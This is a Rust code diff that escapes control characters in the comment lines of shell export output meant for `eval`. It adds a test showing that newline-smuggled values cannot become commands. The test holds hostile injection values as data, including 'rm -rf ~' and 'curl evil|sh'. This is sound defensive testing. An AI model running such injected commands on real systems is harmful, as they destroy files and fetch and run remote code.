@@ -68,6 +68,15 @@ fn shell_word(value: &str) -> String {
     }
 }
 
+/// A value shown in a `#` comment line of the output, which is meant for `eval`: control
+/// characters (a newline would start a line the shell runs) become `?`.
+fn shown(value: &str) -> String {
+    value
+        .chars()
+        .map(|c| if c.is_control() { '?' } else { c })
+        .collect()
+}
+
 /// A Function URL output ends with `/`; the routes are appended to it (`$URL/api/…`).
 fn base_url(url: &str) -> &str {
     url.trim_end_matches('/')
@@ -99,7 +108,8 @@ pub fn export_lines(facts: &StackFacts, auth: &Auth, who: &Subjects) -> Result<S
     );
     let mut out = format!(
         "# Tollgate stack {} ({}): URLs and tokens signed with its signing secret.\n",
-        facts.name, facts.region
+        shown(&facts.name),
+        shown(&facts.region)
     );
     let line = |out: &mut String, name: &str, value: &str| {
         out.push_str(&format!("export {name}={}\n", shell_word(value)));
@@ -111,7 +121,7 @@ pub fn export_lines(facts: &StackFacts, auth: &Auth, who: &Subjects) -> Result<S
         None => {
             out.push_str(&format!(
                 "# AGENT_TOKEN: sub {}, valid {}.\n",
-                who.agent,
+                shown(&who.agent),
                 hours(agent_ttl)
             ));
             let agent = auth.mint_jwt(&who.agent, Role::Agent, agent_ttl, who.project_id.clone());
@@ -124,6 +134,7 @@ pub fn export_lines(facts: &StackFacts, auth: &Auth, who: &Subjects) -> Result<S
                 .map(|s| s.trim())
                 .filter(|s| !s.is_empty())
                 .unwrap_or("(JwtAudience is empty)");
+            let (issuer, audience) = (shown(issuer), shown(audience));
             out.push_str(&format!(
                 "# JwtIssuer is set: POST /api/runs and GET /api/receipts/… accept only your \
                  identity provider's tokens.\n# Set AGENT_TOKEN to one it minted: iss {issuer}, \
@@ -134,7 +145,7 @@ pub fn export_lines(facts: &StackFacts, auth: &Auth, who: &Subjects) -> Result<S
     out.push_str(&format!(
         "# OPERATOR_TOKEN (also TOLLGATE_TOKEN, for tollgate watch/approvals/approve/deny): \
          sub {}, valid {}.\n",
-        who.operator,
+        shown(&who.operator),
         hours(operator_ttl)
     ));
     line(&mut out, "OPERATOR_TOKEN", &operator);
@@ -312,6 +323,24 @@ mod tests {
 
     fn claims(auth: &Auth, token: &str) -> tollgate_api::Claims {
         verified(auth, token).expect("a token the functions accept")
+    }
+
+    #[test]
+    fn nothing_a_stack_parameter_says_becomes_a_shell_command() {
+        let auth = Auth::new(SECRET);
+        let mut hostile = facts("https://idp.example.com/\nrm -rf ~");
+        hostile
+            .parameters
+            .insert("JwtAudience".into(), "x\ncurl evil|sh\r\n".into());
+        let mut who = who();
+        who.operator = "alice\ntouch /tmp/owned".into();
+        let text = export_lines(&hostile, &auth, &who).unwrap();
+        for line in text.lines() {
+            assert!(
+                line.starts_with('#') || line.starts_with("export "),
+                "a line eval would run: {line:?}"
+            );
+        }
     }
 
     #[test]
